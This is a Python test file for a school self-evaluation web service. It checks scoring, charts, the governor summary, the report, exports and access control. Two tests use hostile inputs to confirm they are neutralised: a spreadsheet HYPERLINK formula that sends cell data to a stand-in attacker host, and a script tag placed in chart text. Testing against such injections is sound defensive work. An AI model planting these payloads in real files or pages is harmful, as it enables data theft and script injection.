"""What a school's self-evaluation says: strengths and areas for development, the chart, the LA average,
the summary for governors, the printable report and the exports.

The figures are worked out by hand from the primary framework's scale (1 to 4) and thresholds (3.5 and
2.5): ratings 4, 4, 3 average 3.67, a strength; ratings 2, 2, 1 average 1.67, an area for development.
Pages are read as a person reads them (the Flask test client, signed in with a real link).
"""

from __future__ import annotations

import csv
import io
import json
import re
import xml.etree.ElementTree as ET
from dataclasses import replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from flask import url_for

from form_service import accounts, schools, self_evaluation
from form_service.core.charts import LA_BAR, SCHOOL_BAR, heading_chart_svg
from form_service.core.content import get_content
from form_service.self_evaluation.analysis import csv_safe, submitted_answer_sets
from form_service.store import get_store
from quality_mark.analysis import analyse
from quality_mark.loader import load_content

REPO_ROOT = Path(__file__).resolve().parent.parent
SVG = "{http://www.w3.org/2000/svg}"

OAKFIELD, HILLCREST = "900001", "900004"
CYCLE = "2026-27"  # the cycle open on the tests' fixed day, 23 November 2026
SENCO = "senco@oakfield-primary.example.org"
GOVERNOR = "governor@oakfield-primary.example.org"
DEPUTY = "deputy@oakfield-primary.example.org"  # added as a contributor where a test needs one
HILLCREST_LEAD = "inclusion@hillcrest-academy.example.org"
LA_REVIEWER = "la.reviewer@example.org"
LA_ADMIN = "la.admin@example.org"

# Oakfield's answers in most tests: leadership 4, 4, 3 and identification 2, 2, 1; nothing else rated.
RATINGS = {
    "PRI-LEAD-01": 4,
    "PRI-LEAD-02": 4,
    "PRI-LEAD-03": 3,
    "PRI-IDEN-01": 2,
    "PRI-IDEN-02": 2,
    "PRI-IDEN-03": 1,
}
STRENGTHS = ["PRI-LEAD-01", "PRI-LEAD-02"]
DEVELOPMENTS = ["PRI-IDEN-01", "PRI-IDEN-02", "PRI-IDEN-03"]
PAGES = ["analysis", "governor-summary", "report", "export.json", "export.csv"]


# Reading pages ---------------------------------------------------------------------------------------------


class Page(HTMLParser):
    """A response as a person reads it: its title, its text, its links and its table rows."""

    def __init__(self, response: Any) -> None:
        super().__init__(convert_charrefs=True)
        self.status = response.status_code
        self.html = response.get_data(as_text=True)
        self.links: list[tuple[str, str]] = []
        self.rows: list[list[str]] = []
        self._words: list[str] = []
        self._link: list[Any] | None = None
        self._cell: list[str] | None = None
        self.feed(self.html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "a":
            self._link = [dict(attrs).get("href", ""), []]
        elif tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []
        if tag in ("p", "li", "td", "th", "h1", "h2", "h3", "dt", "dd", "br", "div"):
            self._words.append(" ")

    def handle_endtag(self, tag: str) -> None:
        if tag == "a" and self._link is not None:
            self.links.append((self._link[0], " ".join("".join(self._link[1]).split())))
            self._link = None
        elif tag in ("td", "th") and self._cell is not None and self.rows:
            self.rows[-1].append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data: str) -> None:
        self._words.append(data)
        if self._link is not None:
            self._link[1].append(data)
        if self._cell is not None:
            self._cell.append(data)

    @property
    def text(self) -> str:
        return " ".join("".join(self._words).split())

    @property
    def title(self) -> str:
        return re.search(r"<title>(.*?) - ", self.html).group(1)

    def row(self, first_cell: str) -> list[str]:
        found = [row for row in self.rows if row and row[0] == first_cell]
        assert found, f"no table row for {first_cell!r}"
        return found[0]

    def part(self, start_id: str, end_id: str | None = None) -> str:
        """The HTML between two elements with ids, for checking what is listed under a heading."""
        start = self.html.index(f'id="{start_id}"')
        return self.html[start : self.html.index(f'id="{end_id}"') if end_id else len(self.html)]


# Setting up answers ----------------------------------------------------------------------------------------


def user_id(email: str) -> str:
    return accounts.find_user_by_email(get_store(), email).id


def give_answers(app: Any, urn: str = OAKFIELD, ratings: dict[str, int] = RATINGS, **extra: dict) -> None:
    """The school starts its self-evaluation and the SENCo saves a rating and commentary for each criterion.

    `extra` maps a criterion to a whole answer to save instead (rating, commentary, evidence).
    """
    with app.app_context():
        store, content = get_store(), get_content()
        school = accounts.get_school(store, urn)
        cycle = self_evaluation.current_cycle(content, date(2026, 11, 23))
        self_evaluation.start(store, content, school, cycle)
        answers = {
            criterion: {"rating": rating, "commentary": "We do this.", "evidence": []}
            for criterion, rating in ratings.items()
        }
        for criterion, answer in (answers | extra).items():
            result = self_evaluation.save_answer(store, content, cycle, urn, criterion, answer, 0, user_id(SENCO))
            assert result.status == "saved", result


def stored(app: Any, urn: str = OAKFIELD) -> dict[str, Any] | None:
    with app.app_context():
        return self_evaluation.load(get_store(), urn, CYCLE)


def add_schools_that_submitted(app: Any, leadership_ratings: list[int], framework: str = "primary") -> None:
    """More schools in the LA's list, each with a self-evaluation submitted against `framework` version 1,
    rating only PRI-LEAD-01 (the leadership score is then that rating)."""
    with app.app_context():
        store, content = get_store(), get_content()
        version = content.framework(framework)
        taken = len(store.keys(self_evaluation.COLLECTION))
        rows = [
            {
                "urn": f"9001{taken + index:02d}",
                "name": f"Extra School {taken + index}",
                "phase": "Primary" if framework == "primary" else "Secondary",
                "framework": framework,
                "la_name": "Demo Shire",
                "type": "Community school",
                "postcode": "AB9 1AA",
                "website": "",
                "contact_email": "",
            }
            for index in range(len(leadership_ratings))
        ]
        schools.apply_import(store, rows)
        for row, rating in zip(rows, leadership_ratings, strict=True):
            criterion = version.headings[0].criteria[0].id
            store.write(
                self_evaluation.COLLECTION,
                self_evaluation.key(row["urn"], CYCLE),
                {
                    "urn": row["urn"],
                    "cycle": CYCLE,
                    "framework": version.id,
                    "framework_version": version.version,
                    "content_hash": version.content_hash,
                    "status": "submitted",
                    "answers": {criterion: {"rating": rating, "commentary": "Done.", "evidence": [], "revision": 1}},
                    "history": {},
                },
            )


@pytest.fixture(scope="module")
def primary():
    return load_content(REPO_ROOT).framework("primary")


# 1. The figures and the chart, as pure functions ------------------------------------------------------------


def test_heading_scores_and_judgements_follow_the_frameworks_thresholds(primary) -> None:
    answers = {criterion: {"rating": rating, "commentary": "Seen."} for criterion, rating in RATINGS.items()}
    answers["PRI-LEAD-03"]["commentary"] = ""  # rated but not yet explained: not reviewed

    result = analyse(primary, answers)

    leadership, identification, teaching = result.headings[:3]
    assert (leadership.score, leadership.judgement, leadership.reviewed) == (3.67, "strength", 2)
    assert (identification.score, identification.judgement, identification.reviewed) == (1.67, "development", 3)
    assert (teaching.score, teaching.judgement, teaching.reviewed) == (None, None, 0)
    assert [c.id for c in result.strengths] == STRENGTHS
    assert [c.id for c in result.developments] == DEVELOPMENTS
    assert (result.reviewed, result.total) == (5, 42)


def chart_of(primary, la_average=None, **changes) -> str:
    framework = replace(primary, **changes)
    answers = {criterion: {"rating": rating, "commentary": "Seen."} for criterion, rating in RATINGS.items()}
    return heading_chart_svg(analyse(framework, answers), la_average)


def test_the_chart_is_valid_svg_with_a_bar_per_rated_heading_to_scale(primary) -> None:
    svg = chart_of(primary)
    root = ET.fromstring(svg)

    assert root.tag == SVG + "svg" and root.get("role") == "img"
    title = root.find(f"{SVG}title")
    assert root.get("aria-labelledby") == title.get("id") and title.text == "Score for each heading, from 0 to 4"
    # 0 to 4 over 400 units: 3.67 -> 367, 1.67 -> 167; unrated headings have no bar.
    widths = [rect.get("width") for rect in root.iter(SVG + "rect") if rect.get("fill") == SCHOOL_BAR]
    assert widths == ["367", "167"]
    words = [text.text for text in root.iter(SVG + "text")]
    assert "3.67: strength" in words and "1.67: area for development" in words
    assert words.count("Not rated yet") == 4
    assert "Strength: 3.5 or more" in words and "Area for development: 2.5 or less" in words


def test_the_chart_is_the_same_every_time_and_needs_nothing_a_strict_csp_blocks(primary) -> None:
    svg = chart_of(primary)

    assert svg == chart_of(primary)
    assert "style" not in svg and "<script" not in svg
    assert re.findall(r"https?://[^\"]+", svg) == ["http://www.w3.org/2000/svg"]  # only the namespace


def test_the_chart_escapes_text_from_the_content(primary) -> None:
    heading = replace(primary.headings[0], title='Tom & Jerry <script>"x"</script>')
    svg = chart_of(primary, headings=(heading, *primary.headings[1:]))

    words = [text.text for text in ET.fromstring(svg).iter(SVG + "text")]
    assert 'Tom & Jerry <script>"x"</script>' in words
    assert "<script>" not in svg


def test_the_chart_shows_the_la_average_beside_each_heading_it_has(primary) -> None:
    root = ET.fromstring(chart_of(primary, {"leadership": 2.8, "identification": 3}))

    la_bars = [rect.get("width") for rect in root.iter(SVG + "rect") if rect.get("fill") == LA_BAR]
    assert la_bars[1:] == ["280", "300"]  # the first is the legend's sample
    words = [text.text for text in root.iter(SVG + "text")]
    assert "LA average: 2.8" in words and "LA average: 3" in words
    assert words.count("LA average: not enough schools") == 4
    assert "LA average 2.8" in root.find(f"{SVG}desc").text


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ('=HYPERLINK("http://evil.example","Click")', '\'=HYPERLINK("http://evil.example","Click")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Plain words = fine", "Plain words = fine"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_as_formulas_are_made_text(cell, safe) -> None:
    assert csv_safe(cell) == safe


# 2. Strengths and areas for development ---------------------------------------------------------------------


def test_the_senco_sees_strengths_and_areas_for_development_with_links_to_their_questions(app, client, sign_in):
    give_answers(app)
    sign_in(SENCO)

    page = Page(client.get(f"/school/{OAKFIELD}/analysis"))

    assert page.status == 200
    assert page.title == "Strengths and areas for development: Oakfield Primary School"
    assert "6 of 42 criteria reviewed" in page.text
    assert page.row("Leadership and management of inclusion") == [
        "Leadership and management of inclusion",
        "3.67 out of 4",
        "3 of 7 (43%)",
        "Strength",
    ]
    assert page.row("Identification, assessment and review of need")[1:] == [
        "1.67 out of 4",
        "3 of 7 (43%)",
        "Area for development",
    ]
    assert page.row("Teaching, learning and adaptations")[1:] == ["Not rated yet", "0 of 7 (0%)", "No judgement yet"]
    strengths, developments = page.part("strengths", "areas-for-development"), page.part("areas-for-development")
    for criterion in STRENGTHS:
        assert f'href="/school/{OAKFIELD}/self-evaluation/leadership#{criterion.lower()}"' in strengths
        assert criterion not in developments
    for criterion in DEVELOPMENTS:
        assert f'href="/school/{OAKFIELD}/self-evaluation/identification#{criterion.lower()}"' in developments
        assert criterion not in strengths
    assert "PRI-LEAD-03" not in strengths + developments  # rated 3: neither
    with app.app_context():
        framework = get_content().framework("primary")
        next_level = " ".join(framework.criterion("PRI-IDEN-03").next_level.split())
    assert f"Next level: {next_level}" in page.text


def test_each_area_for_development_links_to_planning_an_action_for_it(app, client, sign_in):
    give_answers(app)
    sign_in(SENCO)

    page = Page(client.get(f"/school/{OAKFIELD}/analysis"))

    with app.test_request_context():
        wanted = [url_for("actions.new", urn=OAKFIELD, criterion=criterion) for criterion in DEVELOPMENTS]
    plans = [href for href, text in page.links if text.startswith("Plan an action")]
    assert plans == wanted
    assert [text for _, text in page.links if text.startswith("Plan an action")] == [
        f"Plan an action for {criterion}" for criterion in DEVELOPMENTS
    ]


def test_the_analysis_page_has_the_chart_and_the_same_figures_in_a_table(app, client, sign_in):
    give_answers(app)
    sign_in(GOVERNOR)

    page = Page(client.get(f"/school/{OAKFIELD}/analysis"))

    svg = re.search(r'<svg [^>]*class="qm-chart__svg".*?</svg>', page.html, re.S).group(0)
    assert ET.fromstring(svg).get("role") == "img"
    assert "<caption>Score for each heading</caption>" in page.html
    assert page.html.count('<th scope="col">') == 4 and page.html.count('<th scope="row">') == 6
    assert " style=" not in page.html


def test_the_la_average_appears_once_five_schools_have_submitted_and_not_before(app, client, sign_in):
    give_answers(app)
    add_schools_that_submitted(app, [4], framework="secondary")  # another framework never counts
    add_schools_that_submitted(app, [1, 2, 3, 4])
    sign_in(SENCO)

    four = Page(client.get(f"/school/{OAKFIELD}/analysis"))

    assert "LA average" not in four.text
    assert "Once at least 5 schools using these criteria have submitted" in four.text
    with app.app_context():
        assert len(submitted_answer_sets(get_store(), get_content().framework("primary"))) == 4

    add_schools_that_submitted(app, [4])
    five = Page(client.get(f"/school/{OAKFIELD}/analysis"))

    # Leadership: (1 + 2 + 3 + 4 + 4) / 5 = 2.8. No other heading has 5 scores.
    assert five.row("Leadership and management of inclusion") == [
        "Leadership and management of inclusion",
        "3.67 out of 4",
        "2.8 out of 4",
        "3 of 7 (43%)",
        "Strength",
    ]
    assert five.row("Identification, assessment and review of need")[2] == "Not enough schools yet"
    assert "LA average: 2.8" in five.html
    assert "Once at least 5 schools" not in five.text


def test_a_school_returned_for_changes_counts_with_the_answers_it_submitted(app) -> None:
    add_schools_that_submitted(app, [1, 1, 1, 1, 1])
    with app.app_context():
        store = get_store()
        returned = store.keys(self_evaluation.COLLECTION)[0]

        def return_with_snapshot(document: dict) -> tuple[dict, None]:
            document["status"] = "returned"
            document["submissions"] = ["QM-TEST-1"]
            document["answers"]["PRI-LEAD-01"]["rating"] = 4  # changed since it was submitted
            return document, None

        store.modify(self_evaluation.COLLECTION, returned, return_with_snapshot)
        store.write(
            "submissions",
            "qm-test-1",
            {"framework": "primary", "framework_version": 1, "answers": {"PRI-LEAD-01": {"rating": 2}}},
        )
        sets = submitted_answer_sets(store, get_content().framework("primary"))

    assert sorted(answers["PRI-LEAD-01"]["rating"] for answers in sets) == [1, 1, 1, 1, 2]


# 3. The summary for governors and the report ------------------------------------------------------------------


def test_the_governor_summary_covers_every_heading_in_plain_words(app, client, sign_in):
    give_answers(app)
    sign_in(GOVERNOR)

    page = Page(client.get(f"/school/{OAKFIELD}/governor-summary"))

    assert page.status == 200 and page.title == "Summary for governors: Oakfield Primary School"
    with app.app_context():
        framework = get_content().framework("primary")
    for heading in framework.headings:
        assert page.row(heading.title)
    assert page.row("Leadership and management of inclusion")[1:] == ["3.67 out of 4", "A strength"]
    assert page.row("Identification, assessment and review of need")[1:] == ["1.67 out of 4", "Needs to improve"]
    assert "The school has looked at 6 of 42 statements so far." in page.text
    assert " ".join(framework.criterion("PRI-LEAD-01").statement.split()) in page.part("main-content")
    assert "The deadline is 11:59pm on Thursday 30 September 2027." in page.text


def test_the_report_shows_every_criterion_with_its_answer_and_who_changed_it_when(app, client, sign_in):
    give_answers(
        app,
        **{
            "PRI-VOICE-01": {
                "rating": 3,
                "commentary": "First line\nSecond <b>line</b> & more",
                "evidence": ["Pupil survey 2026", "Parent forum notes"],
            }
        },
    )
    with app.app_context():  # fix the times: one in winter (GMT), one in summer (BST)
        framework = get_content().framework("primary")
        for criterion_id, moment in (
            ("PRI-VOICE-01", "2026-11-23T10:42:00+00:00"),
            ("PRI-LEAD-01", "2026-07-01T09:05:00+00:00"),
        ):

            def set_time(part: dict, criterion_id: str = criterion_id, moment: str = moment) -> tuple[dict, None]:
                part["answers"][criterion_id]["updated_at"] = moment
                return part, None

            part = self_evaluation.part_key(OAKFIELD, CYCLE, framework.heading_of(criterion_id).id)
            get_store().modify(self_evaluation.ANSWERS, part, set_time)
        framework = get_content().framework("primary")
    sign_in(LA_REVIEWER)

    page = Page(client.get(f"/school/{OAKFIELD}/report"))

    assert page.status == 200 and page.title == "Self-evaluation report: Oakfield Primary School"
    for heading in framework.headings:
        assert f">{heading.title}</h2>" in page.html
    for criterion in framework.criteria:
        assert f'id="report-{criterion.id.lower()}"' in page.html
    voice = page.part("report-pri-voice-01", "report-pri-voice-02")
    assert "First line<br>Second &lt;b&gt;line&lt;/b&gt; &amp; more" in voice
    assert "3: Established" in voice
    assert "<li>Pupil survey 2026</li><li>Parent forum notes</li>" in voice
    assert "Demo SENCo, Oakfield, 23 November 2026 at 10:42am" in voice
    assert "Demo SENCo, Oakfield, 1 July 2026 at 10:05am" in page.part("report-pri-lead-01", "report-pri-lead-02")
    assert "Not answered yet" in page.part("report-pri-teach-01", "report-pri-teach-02")
    assert "use your browser's print command" in page.text
    assert page.row("Leadership and management of inclusion")[1] == "3.67 out of 4"


def test_the_report_prints_without_the_service_navigation() -> None:
    css = (REPO_ROOT / "form_service" / "static" / "service.css").read_text()
    print_rules = " ".join(re.findall(r"@media print \{(.*?)\n\}", css, re.S))
    for hidden in (".md-header", ".md-tabs", ".qm-sections", ".md-footer", ".qm-print-hint"):
        assert hidden in print_rules
    assert re.search(r"\.qm-report-criterion \{[^}]*break-inside: avoid", print_rules)


# 4. Exports --------------------------------------------------------------------------------------------------


def test_the_json_export_holds_every_answer_and_what_they_were_made_against(app, client, sign_in):
    give_answers(app)
    sign_in(SENCO)

    response = client.get(f"/school/{OAKFIELD}/export.json")

    assert response.status_code == 200 and response.mimetype == "application/json"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{OAKFIELD}-{CYCLE}-self-evaluation.json"'
    exported = json.loads(response.get_data(as_text=True))
    document = stored(app)
    assert exported["answers"] == document["answers"]
    assert exported["history"] == document["history"]
    assert exported["status"] == "in_progress"
    assert exported["school"]["urn"] == OAKFIELD and exported["cycle"]["id"] == CYCLE
    assert {key: exported["framework"][key] for key in ("id", "version", "content_hash")} == {
        "id": "primary",
        "version": 1,
        "content_hash": document["content_hash"],
    }
    with app.app_context():
        assert exported["people"] == {user_id(SENCO): "Demo SENCo, Oakfield"}


def test_the_csv_export_has_a_row_per_criterion_and_never_a_live_formula(app, client, sign_in):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click here")'
    give_answers(app, **{"PRI-TEACH-01": {"rating": 3, "commentary": attack, "evidence": ["Plan A", "Plan B"]}})
    sign_in(SENCO)

    response = client.get(f"/school/{OAKFIELD}/export.csv")

    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert response.headers["Content-Disposition"] == f'attachment; filename="{OAKFIELD}-{CYCLE}-self-evaluation.csv"'
    rows = list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"))))
    with app.app_context():
        framework = get_content().framework("primary")
    assert [row["Criterion ID"] for row in rows] == [criterion.id for criterion in framework.criteria]
    teach = next(row for row in rows if row["Criterion ID"] == "PRI-TEACH-01")
    assert teach["Commentary"] == "'" + attack
    assert (teach["Heading"], teach["Rating"], teach["Rating label"]) == (
        "Teaching, learning and adaptations",
        "3",
        "Established",
    )
    assert teach["Evidence"] == "Plan A; Plan B"
    assert teach["Last changed by"] == "Demo SENCo, Oakfield"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", teach["Last changed at (UK time)"])
    unanswered = next(row for row in rows if row["Criterion ID"] == "PRI-WELL-01")
    assert (unanswered["Rating"], unanswered["Commentary"], unanswered["Last changed by"]) == ("", "", "")


# 5. Who may see what ------------------------------------------------------------------------------------------


@pytest.mark.parametrize("email", [SENCO, GOVERNOR, DEPUTY, LA_REVIEWER, LA_ADMIN])
def test_the_schools_team_and_the_la_can_read_every_page_and_export(app, client, sign_in, email) -> None:
    with app.app_context():
        deputy = accounts.ensure_user(get_store(), DEPUTY, "Demo Deputy, Oakfield")
        accounts.add_member(get_store(), OAKFIELD, deputy.id, "contributor", added_by=None)
    give_answers(app)
    sign_in(email)

    for page in PAGES:
        assert client.get(f"/school/{OAKFIELD}/{page}").status_code == 200, page


def test_another_schools_lead_finds_nothing_here(app, client, sign_in) -> None:
    give_answers(app)
    sign_in(HILLCREST_LEAD)

    for page in PAGES:
        response = client.get(f"/school/{OAKFIELD}/{page}")
        assert response.status_code == 404, page
        assert "Oakfield" not in response.get_data(as_text=True)
        assert "We do this." not in response.get_data(as_text=True)


def test_signed_out_people_are_sent_to_sign_in(app, client) -> None:
    give_answers(app)

    for page in PAGES:
        response = client.get(f"/school/{OAKFIELD}/{page}")
        assert response.status_code == 302 and response.headers["Location"].startswith("/sign-in"), page


# 6. Before the school starts ------------------------------------------------------------------------------------


def test_before_the_school_starts_every_page_helps_and_nothing_is_created(app, client, sign_in) -> None:
    sign_in(HILLCREST_LEAD)
    with app.app_context():
        before = get_store().keys(self_evaluation.COLLECTION)

    analysis = Page(client.get(f"/school/{HILLCREST}/analysis"))
    summary = Page(client.get(f"/school/{HILLCREST}/governor-summary"))
    report = Page(client.get(f"/school/{HILLCREST}/report"))
    exported = client.get(f"/school/{HILLCREST}/export.json")
    spreadsheet = client.get(f"/school/{HILLCREST}/export.csv")

    assert [analysis.status, summary.status, report.status, exported.status_code, spreadsheet.status_code] == [200] * 5
    assert "0 of 42 criteria reviewed" in analysis.text
    assert "The school has not started its self-evaluation for 2026 to 2027 yet." in analysis.text
    assert ("/school/900004/self-evaluation/", "Go to the self-evaluation") in analysis.links
    assert "qm-chart__svg" not in analysis.html
    assert "The school has not started its self-evaluation for 2026 to 2027 yet." in summary.text
    assert report.text.count("Not answered yet") == 42
    assert json.loads(exported.get_data(as_text=True))["status"] == "not_started"
    assert json.loads(exported.get_data(as_text=True))["framework"]["id"] == "secondary"
    assert len(list(csv.DictReader(io.StringIO(spreadsheet.get_data().decode("utf-8-sig"))))) == 42
    with app.app_context():
        assert get_store().keys(self_evaluation.COLLECTION) == before == []


def test_the_school_home_page_links_to_the_reports(app, client, sign_in) -> None:
    sign_in(GOVERNOR)

    page = Page(client.get(f"/school/{OAKFIELD}/"))

    for path in PAGES:
        assert any(href == f"/school/{OAKFIELD}/{path}" for href, _ in page.links), path


# 7. In a real browser ----------------------------------------------------------------------------------------


@pytest.mark.browser
def test_the_pages_pass_axe_keep_to_the_csp_fit_a_phone_and_print_only_the_report(browser, tmp_path) -> None:
    """Chromium with the built site on one origin: axe-core at WCAG 2.2 AA, no Content Security Policy
    violations (the chart has no inline styles), no sideways scrolling at 320px, and in print no navigation."""
    import email
    from email import policy

    import build
    from form_service import create_app
    from form_service.commands import seed_demo
    from form_service.config import TestConfig
    from form_service.site_files import site_and_service
    from tests.browser import axe_violations, describe_violations, free_port, live_server

    assert build.main(["site", "--out", str(tmp_path / "build")]) == 0
    site, port = tmp_path / "build" / "site", free_port()
    app = create_app(
        TestConfig,
        {
            "DATA_DIR": tmp_path / "data",
            "SITE_DIR": site,
            "SERVICE_URL": f"http://127.0.0.1:{port}/app",
            "TODAY": "2026-11-23",
            "TRUSTED_HOSTS": ["127.0.0.1"],
        },
    )
    with app.app_context():
        seed_demo(app)
    give_answers(app, **{"PRI-VOICE-01": {"rating": 3, "commentary": "One\nTwo", "evidence": ["Survey"]}})
    add_schools_that_submitted(app, [1, 2, 3, 4, 4])

    with live_server(site_and_service(app, site), port) as origin:
        context = browser.new_context(viewport={"width": 1280, "height": 900})
        context.set_default_timeout(10_000)
        page = context.new_page()
        console_errors: list[str] = []
        page.on("console", lambda message: console_errors.append(message.text) if message.type == "error" else None)
        page.goto(origin + "/app/sign-in")
        page.get_by_label("Email address").fill(SENCO)
        page.get_by_role("button", name="Email me a sign-in link").click()
        page.get_by_role("heading", name="Check your email").wait_for()
        newest = sorted((tmp_path / "data" / "outbox").glob("*.eml"))[-1]
        body = email.message_from_bytes(newest.read_bytes(), policy=policy.default).get_content()
        page.goto(re.search(r"http\S*/sign-in/continue\S*", body).group(0))
        page.get_by_role("button", name="Continue").click()
        page.get_by_role("button", name="Sign out").wait_for()

        for path in PAGES[:3]:
            page.goto(f"{origin}/app/school/{OAKFIELD}/{path}")
        page.goto(f"{origin}/app/school/{OAKFIELD}/analysis")
        page.get_by_role("img", name="Score for each heading, from 0 to 4, with the local authority average").wait_for()
        assert console_errors == []  # a blocked inline style or script is reported here

        checked = browser.new_context(bypass_csp=True, storage_state=context.storage_state())  # axe is a script
        for path in PAGES[:3]:
            axe_page = checked.new_page()
            axe_page.goto(f"{origin}/app/school/{OAKFIELD}/{path}")
            violations = axe_violations(axe_page)
            assert not violations, f"{path}: {describe_violations(violations)}"
        checked.close()

        phone = browser.new_context(viewport={"width": 320, "height": 640}, storage_state=context.storage_state())
        phone_page = phone.new_page()
        for path in PAGES[:3]:
            phone_page.goto(f"{origin}/app/school/{OAKFIELD}/{path}")
            widths = phone_page.evaluate("[document.documentElement.scrollWidth, document.documentElement.clientWidth]")
            assert widths[0] <= widths[1], f"{path} is {widths[0]}px wide on a {widths[1]}px screen"
        phone.close()

        page.goto(f"{origin}/app/school/{OAKFIELD}/report")
        page.emulate_media(media="print")
        for hidden in (".md-header", ".md-tabs", ".qm-sections", ".md-footer", ".qm-print-hint"):
            assert not page.locator(hidden).first.is_visible(), hidden
        assert page.locator(".qm-report-criterion").first.evaluate("e => getComputedStyle(e).breakInside") == "avoid"
        assert page.get_by_role("heading", name="Self-evaluation report").is_visible()
        context.close()
